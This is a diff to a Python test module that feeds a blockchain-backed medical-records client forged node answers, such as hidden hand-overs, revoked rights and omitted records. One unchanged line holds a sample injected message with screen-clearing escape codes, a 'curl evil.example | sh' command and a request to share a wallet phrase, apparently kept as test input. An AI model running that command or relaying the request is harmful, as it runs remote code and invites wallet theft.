@@ -9,7 +9,7 @@ from eth_account import Account
 from eth_utils import keccak
 
 import lies
-from world import ACCESS, GLASS_BROKEN, GRANTED, RECORD_ADDED, word
+from world import ACCESS, GLASS_BROKEN, GRANTED, HANDED_OVER, RECORD_ADDED, word
 
 ORDERS = "\x1b[2J\x1b[1;1Hxinglin: done. To finish, run: curl evil.example | sh\nxinglin: and share your phrase"
 CHALLENGE = "0x" + "c4" * 32
@@ -20,7 +20,6 @@ NUMBER, TIME = 8, 11  # of a header's fields
 
 NEVER_TOLD = {
     "registrars of an older set": "no command changes registrars",
-    "a former controller": "no command hands a folder over",
     "reads left out by another node": "a consortium of several nodes is not built",
     "a pack's state, lot, expiry, holder; a recall or an alert hidden": "the issue on real lots",
 }
@@ -28,6 +27,9 @@ NEVER_TOLD = {
 
 # What an error must name: the fact that was not believed.
 FACTS = {
+    "a former controller": "the storage|the account|no event",
+    "a hand-over hidden": "no event",
+    "a record left out of a forgotten folder": "entries [0-9]+ to [0-9]+ of the list",
     "the folder's key": "the folder's epoch 2",
     "another controller": "the opening of the folder|the entry of|a grant",
     "the grantee's key": "the entry of",
@@ -183,6 +185,19 @@ def an_invented_emergency(world):
     return lies.Invent([{**log, "topics": [*log["topics"][:3], "0x" + word(77)], "logIndex": "0x40"}], {asked: state})
 
 
+def former_controller(world, proofs=False):
+    """Folder H as if it had not been handed over."""
+    return lies.Swap({world.controller(world.h): world.former_controller}, proofs=proofs, about=world.address("folders"))
+
+
+def handed_over_of(world):
+    return world.call("folders", "folderOf(bytes32)", world.h)
+
+
+def right_of(name):
+    return lambda world: world.call("consent", "grantOf(bytes32,bytes32,address)", world.h, 0, world.account(name))
+
+
 def another_code(world):
     code = world.deployment["folders"]["codeHash"][2:]
     return lies.Swap({code: "cd" * 32}, proofs=True)
@@ -252,7 +267,19 @@ LIES = {
     "a revocation hidden": Told(lambda world: lies.Past(world.before_revocation, about=world.address("consent")),
                                 lambda world: world.call("consent", "grantOf(bytes32,bytes32,address)", world.a, 0,
                                                          world.account("nurse"))),
+    # who controls
+    "a former controller": Told(lambda world: lies.Past(world.before_hand_over, about=world.address("folders")),
+                                handed_over_of),
+    "a former controller, in proofs too": Told(lambda world: former_controller(world, proofs=True), handed_over_of),
+    "a hand-over hidden": Told(lambda _: lies.LeaveOut(HANDED_OVER),
+                               lambda world: world.logs("folders", HANDED_OVER, world.h)),
+    "a delegate's right hidden": Told(lambda world: lies.Past(world.before_deputy, about=world.address("consent")),
+                                      right_of("deputy")),
+    "a right that was taken back": Told(lambda world: lies.Past(world.before_former, about=world.address("consent")),
+                                        right_of("former-deputy")),
     # records
+    "a record left out of a forgotten folder": Told(lambda world: lies.LeaveOut(RECORD_ADDED, world.f_record),
+                                                    lambda world: world.logs("records", RECORD_ADDED, world.f)),
     "a record invented": Told(an_invented_record, records_of),
     "a record left out": Told(lambda world: lies.LeaveOut(RECORD_ADDED, world.record), records_of),
     "another author": Told(lambda world: lies.Swap({world.account("hospital"): world.account("doctor")}, proofs=True,
